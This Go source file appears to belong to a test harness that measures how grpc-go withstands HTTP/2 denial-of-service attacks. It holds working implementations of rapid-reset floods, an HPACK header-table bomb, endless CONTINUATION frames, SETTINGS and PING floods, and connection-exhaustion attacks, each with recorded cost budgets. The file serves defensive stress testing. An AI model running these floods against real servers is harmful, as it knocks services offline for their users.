//go:build linux

package attack

import (
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"syscall"
)

// Attacks of clients that speak HTTP/2. grpc-go reads what they send.
var http2Attacks = []*Attack{
	{
		Name: "http2-reset", Path: overTCP, Full: 1_000_000, Short: 5_000,
		What:   "%s calls of HTTP/2 opened and reset",
		Before: "not measured",
		Known:  &Excuse{CPU: 2000, Why: "a call takes grpc-go some 10 µs, as an honest one does, and the attacker only writes prepared bytes"},
		Run:    func(a *Attacker) error { return a.http2OpenAndReset("HalfDuplexCall") },
	},
	{
		Name: "http2-reset-busy", Path: overTCP, Full: 1_000_000, Short: 5_000,
		What:   "%s calls of HTTP/2 opened and reset whose handlers take 2 s",
		Before: "not measured",
		Known:  &Excuse{CPU: 2000, Why: "as above; grpc-go reads no further while 1,000 handlers run"},
		Run:    func(a *Attacker) error { return a.http2OpenAndReset("StreamingInputCall") },
	},
	{
		Name: "http2-bomb", Path: overTCP, Full: 990, Short: 200,
		What:   "%s calls of HTTP/2, left open, whose headers repeat an entry of 4 kB 15 times",
		Before: "843 MB for 50 calls, with grpc-go's limit of 16 MiB",
		Known:  &Excuse{Each: 128 << 10, CPU: 4000, Why: "grpc-go decodes up to MaxHeaderListSize of each header, by default 64 KiB: for a connection 64 MiB, as of unread messages"},
		Run:    headerBomb,
	},
	{
		Name: "http2-continuation", Path: overTCP, Full: 50, Short: 10,
		What:   "%s connections of HTTP/2 whose headers do not end: 16 MiB in CONTINUATION frames",
		Before: "not measured",
		Known:  &Excuse{CPU: 30, Why: "grpc-go decodes what it discards, and the attacker only writes prepared bytes"},
		Run:    continuations,
	},
	{
		Name: "http2-settings", Path: overTCP, Full: 2_000_000, Short: 100_000,
		What:   "%s empty SETTINGS of HTTP/2",
		Before: "not measured",
		Known:  &Excuse{CPU: 60, Why: "grpc-go answers each, in some 400 ns, and the attacker only writes prepared bytes"},
		Run:    func(a *Attacker) error { return a.http2Flood(a.Count, frameSettings, 0) },
	},
	{
		Name: "http2-pings", Path: overTCP, Full: 20, Short: 4,
		What:   "%s connections of HTTP/2 with 65,536 PINGs each",
		Before: "not measured",
		Known:  &Excuse{CPU: 100, Why: "grpc-go hangs up on a client with too many PINGs, and may read for another second"},
		Run:    pings,
	},
	{
		Name: "http2-preface", Path: overTCP, Full: 5_000, Short: 200,
		What:   "%s connections that send a half of the preface of HTTP/2 and no more",
		Before: "not measured",
		Known:  &Excuse{Each: 24 << 10, Why: "a connection takes some 7 kB of itself; how many there are is for the listener to limit"},
		Run:    func(a *Attacker) error { return a.silent(preface[:12]) },
	},
	{
		Name: "http2-idle", Path: overTCP, Full: 5_000, Short: 200,
		What:   "%s connections that send the preface and the settings of HTTP/2 and no more",
		Before: "not measured",
		Known:  &Excuse{Each: 64 << 10, Why: "a connection takes grpc-go some 20 kB; how many there are is for the listener to limit"},
		Run: func(a *Attacker) error {
			return a.silent(string(http2Frame([]byte(preface), frameSettings, 0, 0, "")))
		},
	},
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Types, flags and sizes of HTTP/2 frames.
const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9
	flagEndStream     = 1
	flagEndHeaders    = 4
	largestFrame      = 16 << 10
)

// An http2Peer is a peer that speaks HTTP/2. Its write counts what was sent.
type http2Peer struct {
	*peer
	stream uint32 // of the last call
}

func http2Frame(b []byte, kind, flags byte, stream uint32, body string) []byte {
	b = append(b, byte(len(body)>>16), byte(len(body)>>8), byte(len(body)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), body...)
}

// hpackText encodes a string.
func hpackText(s string) string {
	if len(s) < 127 {
		return string([]byte{byte(len(s))}) + s
	}
	return string(binary.AppendUvarint([]byte{127}, uint64(len(s)-127))) + s
}

// fields are a call's own header fields, encoded with HPACK: POST, http, the path, the
// authority and the content type. They are not added to the table.
func fields(method string) string {
	return "\x83\x86\x04" + hpackText(methods+method) + "\x01" + hpackText("localhost") + "\x0f\x10" + hpackText("application/grpc")
}

// enterHTTP2 connects, makes an ordinary call, and from then on reads and discards
// everything. The call shows that the attack's frames follow the protocol.
func (a *Attacker) enterHTTP2() (*http2Peer, error) {
	inner, err := a.dial(overTCP)
	if err != nil {
		return nil, err
	}
	p := &http2Peer{inner, 1}
	b := http2Frame([]byte(preface), frameSettings, 0, 0, "")
	b = http2Frame(b, frameHeaders, flagEndHeaders, 1, fields("EmptyCall"))
	b = http2Frame(b, frameData, flagEndStream, 1, "\x00\x00\x00\x00\x00")
	if err := p.write(b); err != nil {
		return nil, err
	}
	for head := make([]byte, 9); ; {
		if _, err := io.ReadFull(p.conn, head); err != nil {
			return nil, err
		}
		if _, err := io.CopyN(io.Discard, p.conn, int64(head[0])<<16|int64(head[1])<<8|int64(head[2])); err != nil {
			return nil, err
		}
		switch {
		case head[3] == frameData:
			p.drain()
			return p, nil
		case head[3] == frameHeaders && head[4]&flagEndStream != 0:
			return nil, errors.New("an ordinary call of HTTP/2 fails")
		}
	}
}

// open appends the HEADERS frame of a new call.
func (p *http2Peer) open(b []byte, block string) []byte {
	p.stream += 2
	return http2Frame(b, frameHeaders, flagEndHeaders, p.stream, block)
}

func (a *Attacker) http2OpenAndReset(method string) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	// The first call adds the path, the authority and the content type to the table.
	block := "\x83\x86\x44" + hpackText(methods+method) + "\x41" + hpackText("localhost") + "\x5f" + hpackText("application/grpc")
	return p.repeat(a.Count, func(b []byte) []byte {
		b = p.open(b, block)
		block = "\x83\x86\xc0\xbf\xbe"
		return http2Frame(b, frameReset, 0, p.stream, "\x00\x00\x00\x08")
	})
}

// headerBomb adds an entry to the table, to which each call then refers with single bytes.
// The value is binary, so that the server decodes it each time. A header with more of them
// is refused.
func headerBomb(a *Attacker) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	block := fields("HalfDuplexCall")
	first := block + "\x40" + hpackText("bomb-bin") + hpackText(strings.Repeat("A", 4000))
	if err := p.write(p.open(nil, first)); err != nil {
		return err
	}
	return p.repeat(a.Count, func(b []byte) []byte { return p.open(b, block+strings.Repeat("\xbe", 15)) })
}

func continuations(a *Attacker) error {
	part := strings.Repeat("\x00"+hpackText("key")+hpackText(strings.Repeat("x", 250)), largestFrame/258)
	for range a.Count {
		p, err := a.enterHTTP2()
		if err != nil {
			return err
		}
		p.stream += 2
		if err := p.write(http2Frame(nil, frameHeaders, 0, p.stream, fields("HalfDuplexCall"))); err != nil {
			return err
		}
		err = p.repeat(1000, func(b []byte) []byte { return http2Frame(b, frameContinuation, 0, p.stream, part) })
		if err != nil && !hungUp(err) {
			return err
		}
	}
	return nil
}

// http2Flood sends n small frames on a connection, and reads the answers. The server may
// hang up.
func (a *Attacker) http2Flood(n int, kind byte, size int) error {
	p, err := a.enterHTTP2()
	if err != nil {
		return err
	}
	body := strings.Repeat("\x00", size)
	err = p.repeat(n, func(b []byte) []byte { return http2Frame(b, kind, 0, 0, body) })
	if hungUp(err) {
		return nil
	}
	return err
}

func pings(a *Attacker) error {
	for range a.Count {
		if err := a.http2Flood(1<<16, framePing, 8); err != nil {
			return err
		}
	}
	return nil
}

// hungUp reports whether the server has closed the connection.
func hungUp(err error) bool {
	return errors.Is(err, syscall.EPIPE) || errors.Is(err, syscall.ECONNRESET)
}

// silent opens a.Count connections and sends b on each.
func (a *Attacker) silent(b string) error {
	for range a.Count {
		p, err := a.dial(overTCP)
		if err != nil {
			return err
		}
		p.drain()
		if err := p.write([]byte(b)); err != nil {
			return err
		}
	}
	return nil
}
